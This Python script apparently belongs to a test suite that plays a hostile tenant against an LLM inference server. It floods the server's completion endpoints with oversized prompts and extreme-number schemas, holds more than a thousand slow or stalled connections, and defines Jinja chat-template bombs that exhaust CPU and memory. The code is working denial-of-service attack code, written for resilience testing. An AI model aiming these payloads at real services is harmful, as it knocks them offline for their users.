"""The requests of a hostile tenant: requests that are expensive, fill memory or hold slots, and chat templates that are
programs. As a command (used by hostile_tenant.py): attacks.py NAME --hosts A,B --seconds S attacks the HTTP ports of
these hosts and prints the number of responses by status.
"""
import argparse
import asyncio
import collections
import itertools
import json
import os
import resource
import sys
import time

sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "serve"))
import client

LEAST = -(1 << 63)
# A request without an answer is abandoned after this.
PATIENCE = 40
MIB = 1 << 20


def completion(**fields):
    return "/v1/completions", json.dumps({"prompt": "a", "max_tokens": 1, **fields}, separators=(",", ":")).encode()


def constrained(schema, **fields):
    return completion(response_format={"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}, **fields)


def tool(schema):
    function = {"name": "f", "parameters": {"type": "object", "properties": {"x": schema}, "required": ["x"]}}
    body = {"messages": [{"role": "user", "content": "a"}], "max_tokens": 1, "tools": [{"type": "function", "function": function}], "tool_choice": "required"}
    return "/v1/chat/completions", json.dumps(body).encode()


def numbers():
    """S1: numbers near the end of the 64-bit range in schemas."""
    schemas = [{"const": LEAST}, {"enum": [LEAST, 1]}, {"const": LEAST + 1}, {"const": LEAST + 2}, {"type": "integer", "minimum": LEAST, "maximum": LEAST + 1},
               {"type": "array", "items": {"const": LEAST}}, {"type": "integer", "minimum": LEAST}, {"type": "number", "maximum": -1e308}]
    return [constrained(schema) for schema in schemas] + [tool(schema) for schema in schemas]


def work():
    """S3: expensive work before the length is checked, many times."""
    return [completion(prompt="a b" * (2 * MIB // 3), n=16), constrained({"enum": ["v" * 260_000]}, n=16), completion(prompt="z" * (2 * MIB - 100)),
            constrained({"const": "w" * 250_000})]


def lists():
    """S6: lists of tokens."""
    return [completion(prompt=[1] * 4_190_000, n=16), completion(prompt=[[1] * 260_000] * 16, n=1)]


def long_prompts():
    """S9: longer than a message between nodes, shorter than the largest body."""
    return [completion(prompt="a" * (7 * MIB + MIB // 2), n=16), completion(prompt="b " * (9 * MIB // 4)), completion(prompt="c" * (7 * MIB + MIB // 2))]


def chats():
    """S4: the template is the attack; the question is harmless."""
    return [("/v1/chat/completions", json.dumps({"messages": [{"role": "user", "content": "a"}], "max_tokens": 1}).encode())]


# Bodies, number of concurrent senders, and the pause of a sender between two: like a client in a loop.
REQUESTS = {"S1": (numbers, 2, 0.02), "S3": (work, 2, 0.02), "S6": (lists, 24, 0.1), "S9": (long_prompts, 4, 0.05), "S4": (chats, 2, 0.02)}

IDLE_CONNECTIONS = 1030
STALLED_BODIES = 24


async def send(host, path, body, found):
    """Sends one request; counts its status or how it ended."""
    try:
        answer = await asyncio.wait_for(client.ask(host, "POST", path, body), PATIENCE)
        found[str(answer.status or "broken")] += 1
    except asyncio.TimeoutError:
        found["no answer"] += 1


async def flood(name, hosts, end, found):
    make, lanes, pause = REQUESTS[name]
    bodies = make()

    numbers = itertools.count()

    async def lane():
        while time.monotonic() < end:
            number = next(numbers)
            path, body = bodies[number % len(bodies)]
            # Every body is sent to every host.
            await send(hosts[(number // len(bodies) + number) % len(hosts)], path, body, found)
            await asyncio.sleep(pause)

    await asyncio.wait([asyncio.ensure_future(lane()) for _ in range(lanes)], timeout=max(0, end - time.monotonic()) + 1)


async def hold(host, head, drip, end, found, what):
    """A connection that sends a beginning and then nothing, or a byte from time to time; opened again when it is
    closed."""
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, client.PORT), 10)
        except (OSError, asyncio.TimeoutError):
            found[f"{what} refused"] += 1
            await asyncio.sleep(0.5)
            continue
        found[f"{what} opened"] += 1
        try:
            writer.write(head)
            while time.monotonic() < end:
                try:
                    if not await asyncio.wait_for(reader.read(4096), min(1, max(0.01, end - time.monotonic()))):
                        break
                except asyncio.TimeoutError:
                    writer.write(drip)
        except OSError:
            pass
        writer.close()
        await asyncio.sleep(0.1)


async def places(hosts, end, found):
    """S10: connections that hold slots."""
    chunked = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{\"prompt"
    slow = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n{"
    jobs = [hold(hosts[0], b"", b"", end, found, "idle") for _ in range(IDLE_CONNECTIONS)]
    jobs += [hold(hosts[number % len(hosts)], chunked, b"", end, found, "stalled") for number in range(STALLED_BODIES)]
    jobs += [hold(hosts[number % len(hosts)], slow, b" ", end, found, "slow") for number in range(STALLED_BODIES)]
    await asyncio.gather(*jobs)


# Chat templates. Those that attack the end of a load are refused or survived at load; the others are harmless until a
# chat.

LENGTH = 250_000


def chain(begin, part, end):
    return begin + part * ((LENGTH - len(begin) - len(end)) // len(part)) + end


AT_LOAD = {
    "a~a": chain("{{ a", "~a", " }}"), "a.a": chain("{{ a", ".a", " }}"), "a|e": chain("{{ a", "|e", " }}"), "not": chain("{{ ", "not ", "a }}"),
    "--1": chain("{{ ", "-", "1 }}"), "elif": chain("{% if a %}", "{% elif a %}", "{% endif %}"), "if else": chain("{{ ", "1 if 1 else ", "1 }}"),
    "a[0]": chain("{{ a", "[0]", " }}"), "a()": chain("{{ a", "()", " }}"), "1 and 1": chain("{{ 1", " and 1", " }}"), "1+1": chain("{{ 1", "+1", " }}"),
    "2**2": chain("{{ 2", "**2", " }}"),
}
NESTED = "{% set ns = namespace(x=[], y=[]) %}{% for i in range(99999) %}{% set ns.x = [ns.x] %}{% set ns.y = [ns.y] %}{% endfor %}"
DOUBLED = "{% set ns = namespace(x='aaaaaaaa') %}{% for i in range(40) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
LARGE = "{% set ns = namespace(x='aaaaaaaa') %}{% for i in range(16) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
AT_CHAT = {
    "itself": "{% set ns = namespace() %}{% set ns.x = ns %}{{ ns }}", "itself as json": "{% set ns = namespace() %}{% set ns.x = ns %}{{ ns|tojson }}",
    "nested": NESTED + "{{ ns.x }}", "nested as json": NESTED + "{{ ns.x|tojson }}", "nested compared": NESTED + "{{ ns.x == ns.y }}",
    "x ~ x": DOUBLED + "{{ ns.x }}", "indent": "{{ 'a\nb'|indent(100000000000) }}", "format": "{{ '%100000000000d'|format(1) }}",
    "batch": "{{ [1]|batch(100000000000, 0)|list }}", "slice": "{{ [1]|slice(1000000000)|list }}",
    "join": LARGE + "{{ (ns.x|list)|join(ns.x) }}", "replace": LARGE + "{{ ns.x|replace('a', ns.x) }}",
    "sort": "{% for i in range(99999) %}{% set x = range(99999)|sort %}{% endfor %}",
}


async def run(name, hosts, seconds):
    found, end = collections.Counter(), time.monotonic() + seconds
    if name == "S10":
        await places(hosts, end, found)
    else:
        await flood(name, hosts, end, found)
    return found


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=[*REQUESTS, "S10"])
    parser.add_argument("--hosts", type=lambda text: text.split(","), required=True)
    parser.add_argument("--seconds", type=float, default=10)
    arguments = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
    print(json.dumps(asyncio.run(run(arguments.name, arguments.hosts, arguments.seconds))))
    # Held connections are left open.
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
